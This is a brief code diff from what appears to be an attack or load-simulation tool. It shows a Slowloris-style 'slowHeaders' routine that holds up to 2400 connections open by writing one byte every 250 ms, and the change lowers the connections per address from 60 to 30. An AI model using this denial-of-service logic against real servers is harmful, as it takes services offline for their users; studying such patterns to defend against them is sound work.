@@ -14,7 +14,7 @@ export const slowHeaders: Burst = async attack => {
   }
   while (!attack.isOver()) {
     for (const address of ATTACKER.slice(0, 10)) {
-      for (let n = 0; n < 60 && open.size < 2400; n++) connect(address)
+      for (let n = 0; n < 30 && open.size < 2400; n++) connect(address)
     }
     for (const socket of open) socket.write('a')
     await attack.pause(250)
